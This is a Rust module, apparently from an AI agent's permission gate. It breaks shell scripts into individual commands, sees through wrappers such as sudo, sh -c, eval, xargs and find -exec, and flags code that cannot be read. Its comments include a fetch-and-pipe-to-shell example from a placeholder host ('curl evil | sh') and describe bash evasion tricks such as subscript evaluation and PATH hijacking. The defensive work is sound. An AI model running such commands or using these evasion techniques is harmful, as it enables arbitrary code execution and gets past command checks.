//! A shell script → the simple commands it runs, for per-command rules. This file owns the
//! walk over the parser's tree and seeing through wrappers (`env`, `timeout`, `sudo`,
//! `xargs`, `sh -c`, `eval`, `find -exec`); it does not judge commands (that is `decide` and
//! the gate) and does not expand variables: `$VAR` stays `$VAR`.
//!
//! Why per simple command: a rule `bash(git:*)` must not let `git log && curl evil | sh`
//! through. Every command that runs, including those inside substitutions and behind
//! wrappers, has to be matched on its own.

use super::command_safety::wrappers::{self, RESERVED, Unwrap};
use super::shell_words::{
    self, Command, MAX_DEPTH, Part, RedirKind, Redirect, Script, SubKind, Word,
};

/// One command as rules see it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// The words after wrappers and leading `VAR=value` assignments are dropped. Literal text
    /// as is, `$VAR` as `$VAR`, a substitution as `$(…)` (its commands come out separately).
    pub words: Vec<String>,
    /// Targets of output redirects (`>`, `>>`, `&>`…), raw text, unresolved. Empty `words`
    /// with writes is a bare `> file`, which still truncates the file.
    pub writes: Vec<String>,
}

const TOO_DEEP: &str = "the command is nested too deeply to check";
/// The text a substitution shows as inside its word. Re-parsing such text (`sh -c "$(…)"`)
/// yields a command `…` that is not real: the substitution's commands were already taken.
const SUB_MARK: &str = "…";
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "ash"];
/// What a command that cannot be read shows as (never matched by a prefix rule).
pub const OPAQUE: &str = "(a command that cannot be checked)";
/// Most words one brace expansion may give before the command counts as unreadable.
const MAX_BRACES: usize = 64;
/// Variables a leading `NAME=value` may set while the command still counts as itself:
/// display and locale settings, log levels, CI flags. Any other (`PATH`, `LD_PRELOAD`,
/// `GIT_EXTERNAL_DIFF`, `PAGER`…) can make the program run other code, so it stays part of
/// the command and needs its own rule (`GIT_PAGER=cat git log` is not `git log`).
const HARMLESS_VARS: &[&str] = &[
    "RUST_BACKTRACE",
    "RUST_LOG",
    "RUST_TEST_THREADS",
    "RUST_MIN_STACK",
    "CARGO_TERM_COLOR",
    "CARGO_INCREMENTAL",
    "CI",
    "NODE_ENV",
    "DEBUG",
    "VERBOSE",
    "TZ",
    "LANG",
    "LANGUAGE",
    "LC_ALL",
    "LC_CTYPE",
    "LC_MESSAGES",
    "LC_COLLATE",
    "LC_NUMERIC",
    "LC_TIME",
    "TERM",
    "NO_COLOR",
    "FORCE_COLOR",
    "CLICOLOR",
    "CLICOLOR_FORCE",
    "COLUMNS",
    "LINES",
    "PYTHONUNBUFFERED",
    "PYTHONDONTWRITEBYTECODE",
    "PYTHONHASHSEED",
    "GOOS",
    "GOARCH",
    "CGO_ENABLED",
    "TERM_PROGRAM",
    "NODE_NO_WARNINGS",
];

/// Splits `command` into the simple commands it runs, substitutions first. The only error
/// is nesting deeper than [`MAX_DEPTH`]; the caller must then not allow the command.
pub fn simple_commands(command: &str) -> Result<Vec<SimpleCommand>, String> {
    Ok(split(command)?.commands)
}

/// What a script runs, and whether it defines functions: a function's body runs where it is
/// called, not where it is written, so its `cd` cannot be followed.
pub struct Split {
    pub commands: Vec<SimpleCommand>,
    pub defines_functions: bool,
}

/// [`simple_commands`], with what else the caller needs to follow the working directory.
pub fn split(command: &str) -> Result<Split, String> {
    let mut splitter = Splitter::default();
    splitter.text(command, 0)?;
    if evaluates_stored_code(command) {
        splitter.opaque(Vec::new())?;
    }
    Ok(Split {
        commands: splitter.out,
        defines_functions: splitter.functions,
    })
}

#[derive(Default)]
struct Splitter {
    out: Vec<SimpleCommand>,
    functions: bool,
}

type Walk<T> = Result<T, String>;

/// Wrappers that run a command with more privileges: seen through, but never invisible.
pub(super) const PRIVILEGED: &[&str] = &["sudo", "doas", "run0", "pkexec"];

impl Splitter {
    fn text(&mut self, src: &str, depth: usize) -> Walk<()> {
        if depth > MAX_DEPTH {
            return Err(TOO_DEEP.to_string());
        }
        let script = shell_words::parse(src, depth).map_err(|_| TOO_DEEP.to_string())?;
        self.script(&script, depth)
    }

    fn script(&mut self, script: &Script, depth: usize) -> Walk<()> {
        for pipeline in &script.pipelines {
            for command in &pipeline.commands {
                self.command(command, depth)?;
            }
        }
        Ok(())
    }

    fn command(&mut self, command: &Command, depth: usize) -> Walk<()> {
        match command {
            Command::Simple { words, redirects } => {
                let writes = self.redirects(redirects, depth)?;
                let mut texts = Vec::new();
                for word in words {
                    texts.push(self.word(word, depth)?);
                }
                // Leading assignments set variables, not the command; see `take_assignments`.
                // A line of assignments only runs nothing, unless it changes how the shell
                // finds or runs what comes later (`PATH=.:$PATH; cat x` runs ./cat).
                if texts.iter().all(|t| assignment_name(t).is_some()) {
                    texts.retain(|t| assignment_name(t).is_some_and(steers_the_shell));
                }
                match expand_all(texts) {
                    Some(texts) => self.simple(texts, writes, depth),
                    None => self.opaque(writes),
                }
            }
            Command::Group { body, redirects } => {
                let writes = self.redirects(redirects, depth)?;
                let start = self.out.len();
                self.script(body, depth)?;
                // `{ a; b; } > f`: every command in the group writes to `f`.
                if self.out.len() == start {
                    self.push_writes(writes);
                } else {
                    for c in &mut self.out[start..] {
                        c.writes.extend(writes.iter().cloned());
                    }
                }
                Ok(())
            }
            Command::Function { body, .. } => {
                self.functions = true;
                self.command(body, depth)
            }
        }
    }

    /// Output targets; every target word is walked, since `> $(cmd)` runs `cmd`.
    fn redirects(&mut self, redirects: &[Redirect], depth: usize) -> Walk<Vec<String>> {
        let mut writes = Vec::new();
        for redirect in redirects {
            let target = self.word(&redirect.target, depth)?;
            if matches!(redirect.kind, RedirKind::Out) {
                writes.push(target);
            }
        }
        Ok(writes)
    }

    /// A word's display text; the commands of its substitutions are collected on the way.
    fn word(&mut self, word: &Word, depth: usize) -> Walk<String> {
        let mut out = word
            .assign
            .as_ref()
            .map(|n| format!("{n}="))
            .unwrap_or_default();
        for part in &word.parts {
            match part {
                Part::Lit(s) => out.push_str(s),
                Part::Tilde(user) => {
                    out.push('~');
                    out.push_str(user);
                }
                Part::Var { name, .. } => {
                    out.push('$');
                    out.push_str(name);
                }
                Part::Sub(kind, script) => {
                    self.script(script, depth + 1)?;
                    let (open, close) = match kind {
                        SubKind::Command => ("$(", ")"),
                        SubKind::ProcessIn => ("<(", ")"),
                        SubKind::ProcessOut => (">(", ")"),
                    };
                    out.push_str(&format!("{open}{SUB_MARK}{close}"));
                }
            }
        }
        Ok(out)
    }

    /// Sees through wrappers until the command that really runs, then records it.
    fn simple(&mut self, mut words: Vec<String>, writes: Vec<String>, depth: usize) -> Walk<()> {
        if depth > MAX_DEPTH {
            return Err(TOO_DEEP.to_string());
        }
        // Assignments that may change what the program does stay in front of it.
        let mut env = take_assignments(&mut words);
        while let Some(first) = words.first() {
            let name = first.rsplit('/').next().unwrap_or(first).to_string();
            if SHELLS.contains(&name.as_str()) || name == "eval" {
                let code = match name.as_str() {
                    "eval" => Some(words[1..].join(" ")),
                    _ => inline_code(&words),
                };
                if let Some(code) = code {
                    if !env.is_empty() {
                        // `GIT_DIR=x sh -c '…'`: the inner commands run with it, so the
                        // whole command needs a rule of its own too.
                        self.out.push(SimpleCommand {
                            words: [env.clone(), words.clone()].concat(),
                            writes: Vec::new(),
                        });
                    }
                    self.text(&code, depth + 1)?;
                    self.push_writes(writes);
                    return Ok(());
                }
                break;
            }
            if name == "find" {
                self.find_exec(&words, depth)?;
                break;
            }
            // `env -S 'cmd args' …` runs a command written inside a flag's value; `xargs` with a
            // flag we do not know may take the next word as its value: the command that runs
            // cannot be told, so nothing but a person or `bash` itself may allow it.
            let unreadable = match name.as_str() {
                "env" => words.iter().skip(1).any(|w| {
                    w.starts_with("--split-string")
                        || (w.starts_with('-') && !w.starts_with("--") && w.contains('S'))
                }),
                "xargs" => xargs_start(&words).is_none(),
                _ => evaluates_subscripts(&name, &words),
            };
            if unreadable {
                return self.opaque(writes);
            }
            if PRIVILEGED.contains(&name.as_str()) {
                // `sudo cargo test` is not `cargo test`: the whole command needs a rule of its
                // own, and the command it runs is checked too (so deny rules still see it).
                self.out.push(SimpleCommand {
                    words: words.clone(),
                    writes: Vec::new(),
                });
            }
            let skip = match name.as_str() {
                "xargs" => xargs_start(&words).unwrap_or(words.len()),
                _ => match wrappers::unwrap(&name, &words) {
                    Unwrap::Skip(n) => n,
                    Unwrap::NotWrapper => break,
                },
            };
            if skip >= words.len() && !RESERVED.contains(&name.as_str()) {
                // A wrapper alone (`env`, `sudo -s`, `xargs`) is itself the command.
                break;
            }
            words.drain(..skip.min(words.len()));
            env.extend(take_assignments(&mut words));
        }
        if !env.is_empty() {
            words = [env, words].concat();
        }
        // A loop header runs nothing itself (its substitutions were taken with its words).
        if words == [SUB_MARK]
            || matches!(words.first().map(String::as_str), Some("for" | "select"))
        {
            return Ok(());
        }
        let mut writes = writes;
        writes.extend(super::writes::file_writes(&words));
        if !words.is_empty() || !writes.is_empty() {
            self.out.push(SimpleCommand { words, writes });
        }
        Ok(())
    }

    /// `find … -exec CMD … ;`: each CMD is a command of its own; `find` stays one too.
    fn find_exec(&mut self, words: &[String], depth: usize) -> Walk<()> {
        let mut i = 1;
        while i < words.len() {
            if matches!(words[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = words[i + 1..]
                    .iter()
                    .position(|w| w == ";" || w == "+")
                    .map_or(words.len(), |e| i + 1 + e);
                self.simple(words[i + 1..end].to_vec(), Vec::new(), depth + 1)?;
                i = end;
            }
            i += 1;
        }
        Ok(())
    }

    /// A command whose real program cannot be read from its text: it stands as [`OPAQUE`],
    /// which only a rule for all of `bash` (or a person) allows.
    fn opaque(&mut self, writes: Vec<String>) -> Walk<()> {
        self.out.push(SimpleCommand {
            words: vec![OPAQUE.to_string()],
            writes,
        });
        Ok(())
    }

    fn push_writes(&mut self, writes: Vec<String>) {
        if !writes.is_empty() {
            self.out.push(SimpleCommand {
                words: Vec::new(),
                writes,
            });
        }
    }
}

/// `sh -c CODE`: the code word, when the flags include `c` (the gate's reading of the flags).
fn inline_code(words: &[String]) -> Option<String> {
    let flags = wrappers::shell_flags(words);
    flags.inline.then(|| words.get(flags.at).cloned()).flatten()
}

/// Where the command of `xargs [flags] cmd…` starts; `None` when a flag is one we do not know
/// (it might take the next word as its value, so the command could be any word).
fn xargs_start(words: &[String]) -> Option<usize> {
    // Short flags that take a value (in the same word or the next), and long ones.
    const VALUE: &str = "IdEaLnPs";
    const LONG_VALUE: &[&str] = &[
        "--arg-file",
        "--delimiter",
        "--max-args",
        "--max-procs",
        "--max-chars",
        "--max-lines",
        "--process-slot-var",
        "--replace",
        "--eof",
    ];
    const LONG_FLAG: &[&str] = &[
        "--null",
        "--verbose",
        "--interactive",
        "--no-run-if-empty",
        "--exit",
        "--open-tty",
        "--show-limits",
    ];
    let mut i = 1;
    while let Some(a) = words.get(i).filter(|a| a.starts_with('-') && a.len() > 1) {
        i += 1;
        if a == "--" {
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            let name = format!("--{}", long.split('=').next().unwrap_or(long));
            match (
                LONG_FLAG.contains(&name.as_str()),
                LONG_VALUE.contains(&name.as_str()),
            ) {
                (true, _) => {}
                (_, true) => i += usize::from(!a.contains('=')),
                _ => return None,
            }
            continue;
        }
        // A cluster such as `-0tI`: the first value-taking letter takes the rest of the word,
        // or the next word when it ends the cluster.
        for (k, c) in a.char_indices().skip(1) {
            if VALUE.contains(c) {
                i += usize::from(k + 1 == a.len());
                break;
            }
            // `-i`, `-e`, `-l` take an optional attached value; the rest are plain flags.
            if "iel".contains(c) || "0prtx".contains(c) {
                if "iel".contains(c) {
                    break;
                }
                continue;
            }
            return None;
        }
    }
    Some(i)
}

/// Bash runs code hidden in a variable's value in a few places: `${X@P}` expands it as a
/// prompt (running its `$( )`), and `${!X}`, arithmetic (`$((X))`, `((X))`, `let`, `[[ X -eq
/// 1 ]]`) and array subscripts evaluate a value such as `a[$(cmd)]`. A script that both gets
/// text into a variable (a substitution, `read`, a quoted `$(`) and evaluates one runs what
/// cannot be read from it. Over-approximates: `for i in $(seq 3); do echo $((i*2)); done` asks.
fn evaluates_stored_code(src: &str) -> bool {
    if src.contains("@P") || src.contains("${!") {
        return true;
    }
    let chars: Vec<char> = src.chars().collect();
    let substitution = (0..chars.len().saturating_sub(1))
        .any(|i| chars[i] == '$' && chars[i + 1] == '(' && chars.get(i + 2) != Some(&'('))
        || src.contains('`');
    let stores = substitution
        || ["read", "mapfile", "readarray"]
            .iter()
            .any(|w| src.contains(w));
    let evaluates = ["((", "let ", "[[", "-eq", "-ne", "-lt", "-le", "-gt", "-ge"]
        .iter()
        .any(|w| src.contains(w))
        || (src.contains("${") && src.contains('['));
    stores && evaluates
}

/// Builtins that evaluate array subscripts in their arguments (`printf -v 'a[$(cmd)]' x`
/// runs `cmd`): with a substitution inside brackets, the command is unreadable.
fn evaluates_subscripts(name: &str, words: &[String]) -> bool {
    const EVALUATING: &[&str] = &[
        "printf",
        "declare",
        "typeset",
        "local",
        "export",
        "readonly",
        "let",
        "read",
        "unset",
        "mapfile",
        "readarray",
        "test",
        "[",
        "[[",
    ];
    EVALUATING.contains(&name)
        && words
            .iter()
            .any(|w| w.contains('[') && (w.contains("$(") || w.contains('`')))
}

/// Brace expansion of every word (`find . {-exec,touch} x` is `find . -exec touch x`), so
/// rules and the read-only list see what bash will run; `None` when it would explode.
fn expand_all(words: Vec<String>) -> Option<Vec<String>> {
    let mut out = Vec::new();
    for word in words {
        // Each `{` is a candidate the expansion rescans from: bound them, as hostile input.
        if word.matches('{').count() > MAX_BRACES {
            return None;
        }
        if word.contains('{') && word.contains(',') {
            let mut budget = MAX_BRACES;
            braces(&word, &mut out, &mut budget)?;
        } else {
            out.push(word);
        }
    }
    Some(out)
}

/// Bash's `{a,b}` expansion of one word, nested ones included, into `out`.
fn braces(word: &str, out: &mut Vec<String>, budget: &mut usize) -> Option<()> {
    let chars: Vec<char> = word.chars().collect();
    for open in (0..chars.len()).filter(|&i| chars[i] == '{') {
        let (mut depth, mut commas, mut close) = (0usize, Vec::new(), None);
        for (k, c) in chars.iter().enumerate().skip(open) {
            match c {
                '{' => depth += 1,
                '}' if depth == 1 => {
                    close = Some(k);
                    break;
                }
                '}' => depth -= 1,
                ',' if depth == 1 => commas.push(k),
                _ => {}
            }
        }
        let (Some(close), false) = (close, commas.is_empty()) else {
            continue;
        };
        let head: String = chars[..open].iter().collect();
        let tail: String = chars[close + 1..].iter().collect();
        let mut start = open + 1;
        for end in commas.into_iter().chain(std::iter::once(close)) {
            let alt: String = chars[start..end].iter().collect();
            braces(&format!("{head}{alt}{tail}"), out, budget)?;
            start = end + 1;
        }
        return Some(());
    }
    *budget = budget.checked_sub(1)?;
    out.push(word.to_string());
    Some(())
}

/// Removes the leading `NAME=value` words (after a wrapper too: `env A=1 cmd`) and returns
/// those that set something other than a harmless variable: they stay part of the command.
fn take_assignments(words: &mut Vec<String>) -> Vec<String> {
    let n = words
        .iter()
        .take_while(|w| assignment_name(w).is_some())
        .count();
    let taken: Vec<String> = words.drain(..n).collect();
    taken
        .into_iter()
        .filter(|w| assignment_name(w).is_none_or(|n| !HARMLESS_VARS.contains(&n)))
        .collect()
}

/// `NAME` of a `NAME=value` word.
pub(super) fn assignment_name(word: &str) -> Option<&str> {
    let (name, _) = word.split_once('=')?;
    let mut chars = name.chars();
    let ok = chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_');
    ok.then_some(name)
}

/// Variables whose plain assignment changes what later commands of the same script run or
/// where they write: the shell's own lookups, and (when already exported, which we cannot
/// know) the loader's and git's.
fn steers_the_shell(name: &str) -> bool {
    const NAMES: &[&str] = &[
        "PATH",
        "CDPATH",
        "HOME",
        "IFS",
        "ENV",
        "BASH_ENV",
        "PS4",
        "PROMPT_COMMAND",
        "SHELLOPTS",
        "BASHOPTS",
        "GLOBIGNORE",
        "PWD",
        "OLDPWD",
    ];
    const PARTS: &[&str] = &[
        "PATH", "PAGER", "EDITOR", "VISUAL", "OPT", "PRELOAD", "HOOK", "WRAPPER", "SHELL",
        "COMMAND", "ASKPASS", "CONFIG",
    ];
    let upper = name.to_ascii_uppercase();
    NAMES.contains(&name)
        || ["LD_", "DYLD_", "GIT_", "BASH_FUNC"]
            .iter()
            .any(|p| upper.starts_with(p))
        || PARTS.iter().any(|p| upper.contains(p))
}
